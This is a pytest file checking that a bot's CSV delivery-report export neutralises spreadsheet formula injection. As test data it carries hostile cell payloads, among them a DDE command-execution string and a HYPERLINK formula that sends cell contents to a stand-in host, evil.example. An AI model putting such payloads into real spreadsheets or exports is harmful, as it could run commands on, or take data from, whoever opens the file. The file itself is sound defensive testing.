"""Row T12 of the fault table (tests/faults/README.md): what is exported for spreadsheets is opened as text, never as a formula."""

from __future__ import annotations

import csv
import unicodedata
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.announcements.model import Delivery, DeliveryState, OccurrenceId
from bot.ids import ChatId, Locale
from bot.reports.delivery_report import COLUMNS, cell, write_csv
from tests.support.naughty_texts import NAUGHTY

FORMULA_STARTS = "=+-@\t\r\n＝＋－＠"
FORMULAS = [
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n@x",
    "  =1+1", "\x00=1+1", "\u200b=1+1", "\u202e=1+1", "\ufeff=1+1", "\x1b[31m=1+1", "\u00a0=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    '=HYPERLINK("https://evil.example?x="&A1,"click")', "=1\n=2", 'x",=1+1', "x;=1+1", "'=1+1",
]  # fmt: skip


def row(reason: str) -> Delivery:
    return Delivery(
        occurrence_id=OccurrenceId("o1"),
        chat_id=ChatId(-1001),
        locale=Locale.FA,
        zone="",
        state=DeliveryState.FAILED,
        body_hash="",
        not_before=datetime(2026, 7, 1, tzinfo=UTC),
        reason=reason,
    )


async def each(rows: list[Delivery]) -> AsyncIterator[Delivery]:
    for one in rows:
        yield one


def is_harmless(text: str) -> bool:
    return not text.startswith(tuple(FORMULA_STARTS)) and not any(
        unicodedata.category(letter) in ("Cc", "Cs") for letter in text
    )


@pytest.mark.parametrize("text", FORMULAS)
def test_T12_no_cell_begins_like_a_formula(text):
    assert is_harmless(cell(text))


@pytest.mark.parametrize("text", FORMULAS[:4])
def test_T12_a_formula_is_kept_as_readable_text(text):
    assert cell(text) == f"'{text}"


@given(st.one_of(st.text(), st.from_regex(r"[\s=+\-@\x00-\x1f]+.*")))
def test_T12_whatever_is_in_a_cell_is_one_line_of_plain_text(text):
    made = cell(text)
    assert is_harmless(made)
    assert "\n" not in made
    assert cell(made) == made
    made.encode("utf-8")


@pytest.mark.parametrize("text", ["blocked", "chat_not_found", "", "a-b", "1+1", "Зал 2", "数 = 3"])
def test_T12_what_is_harmless_stays_as_it_is(text):
    assert cell(text) == text


async def test_T12_no_content_moves_a_cell_to_another_place():
    rows = [row(text) for text in (*FORMULAS, *NAUGHTY)]
    table = StringIO()
    assert await write_csv(each(rows), table.write) == len(rows)
    read = list(csv.reader(StringIO(table.getvalue(), newline="")))
    assert read[0] == list(COLUMNS)
    assert len(read) == len(rows) + 1
    assert {len(line) for line in read} == {len(COLUMNS)}
    assert all(is_harmless(line[COLUMNS.index("reason")]) for line in read)
    assert {line[0] for line in read[1:]} == {"-1001"}, "a number is a number, also below zero"
    table.getvalue().encode("utf-8-sig")
